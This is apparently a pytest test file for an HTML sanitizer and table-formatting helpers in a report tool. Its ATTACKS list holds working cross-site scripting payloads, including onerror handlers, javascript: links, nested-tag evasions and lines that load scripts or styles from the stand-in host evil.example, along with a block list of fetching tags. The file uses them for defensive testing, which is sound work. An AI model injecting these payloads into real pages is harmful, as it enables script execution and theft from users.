import pytest
from bs4 import BeautifulSoup
from hypothesis import given, settings
from hypothesis import strategies as st

from workbench.reports.safe_html import name_sections, safe_html, tidy_tables

ATTACKS = [
    "<script>alert(1)</script>",
    "</td><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<svg onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<p style='background:url(http://evil.example)'>x</p>",
    "<style>@import 'http://evil.example';</style>",
    "<scr<script>ipt>alert(1)</script>",
    "<style><script>alert(1)</script></style>",
    "<table background='http://evil.example'><tr><td>x</table>",
    "<link rel=stylesheet href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input></form>",
    "<math><mtext></p><style><img src=x onerror=alert(1)></style></mtext></math>",
]
FETCHING = {"script", "style", "iframe", "object", "embed", "link", "meta", "form", "base", "svg"}
PIECES = st.sampled_from(
    [*ATTACKS, "<", ">", '"', "'", "&", "<!--", "-->", "</", "<p>", "<b ", "x"]
)


def assert_harmless(markup):
    soup = BeautifulSoup(markup, "html.parser")
    for tag in soup.find_all():
        assert tag.name not in FETCHING
        assert {name for name in tag.attrs if name.startswith("on") or name == "style"} == set()
        assert tag.get("src", "data:image/").startswith("data:image/")
        assert not tag.get("href", "").strip().lower().startswith(("javascript:", "data:"))


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_runs_and_nothing_is_fetched(attack):
    assert_harmless(safe_html(attack))


@settings(deadline=None, derandomize=True, max_examples=150)
@given(st.lists(PIECES, max_size=8).map("".join))
def test_nor_does_any_combination(markup):
    assert_harmless(safe_html(markup))


def test_what_carries_text_tables_and_embedded_pictures_stays():
    markup = (
        '<h2>Data</h2><p class="note">a <strong>b</strong></p>'
        '<table class="dataframe"><caption>c</caption><thead><tr><th scope="col">x</th></tr>'
        '</thead><tbody><tr><td colspan="2">1</td></tr></tbody></table>'
        '<a href="https://example.org">e</a><img alt="i" src="data:image/png;base64,AAAA">'
    )
    assert safe_html(markup) == markup


def test_escaped_text_stays_escaped():
    assert safe_html("<p>&lt;script&gt; &amp;amp;</p>") == "<p>&lt;script&gt; &amp;amp;</p>"


def classes(cells):
    """The class of each of the last row's cells, after the tables were tidied."""
    body = "".join(f"<td>{cell}</td>" for cell in cells)
    head = "".join("<th>h</th>" for _ in cells)
    soup = BeautifulSoup(
        f"<table><thead><tr>{head}</tr></thead><tbody><tr>{body}</tr></tbody></table>",
        "html.parser",
    )
    tidy_tables(soup)
    assert [h.get("class") for h in soup.find_all("th")] == [d.get("class") for d in soup("td")]
    return [cell.get("class") for cell in soup("td")]


@pytest.mark.parametrize(
    "text", ["1", "-1", "−1", "1,234.5", "12.3%", "1e-05", "2.5E+06", "0.1", "€ 12", "3×", "±0.2"]
)
def test_a_column_of_numbers_is_numeric(text):
    assert classes([text]) == ["number"]


@pytest.mark.parametrize("text", ["", "–", "NaN", "2017-01-05", "T1", "campaign 18", "1a", "a1"])
def test_a_column_without_numbers_is_not(text):
    assert classes([text]) == [None]


def test_what_is_missing_does_not_make_a_column_text():
    soup = BeautifulSoup(
        "<table><tr><th>a</th></tr><tr><td>1</td></tr><tr><td>–</td></tr></table>", "html.parser"
    )
    tidy_tables(soup)
    assert [cell["class"] for cell in soup(["th", "td"])] == ["number"] * 3


def test_one_word_makes_a_column_text():
    soup = BeautifulSoup("<table><tr><td>1</td></tr><tr><td>one</td></tr></table>", "html.parser")
    tidy_tables(soup)
    assert [cell.get("class") for cell in soup("td")] == [None, None]


def test_a_wide_table_scrolls_by_itself_and_by_keyboard():
    soup = BeautifulSoup("<p><table border='1'><tr><td>1</td></tr></table></p>", "html.parser")
    tidy_tables(soup)
    assert soup.table.parent.name == "div"
    assert soup.table.parent.get_attribute_list("class") == ["table"]
    assert soup.table.parent["tabindex"] == "0"
    assert "border" not in soup.table.attrs


def test_sections_are_named_in_order():
    soup = BeautifulSoup("<h2>Data</h2><h3>x</h3><h2>The <i>model</i></h2>", "html.parser")
    assert name_sections(soup) == [("section-1", "Data"), ("section-2", "The model")]
    assert [heading["id"] for heading in soup("h2")] == ["section-1", "section-2"]
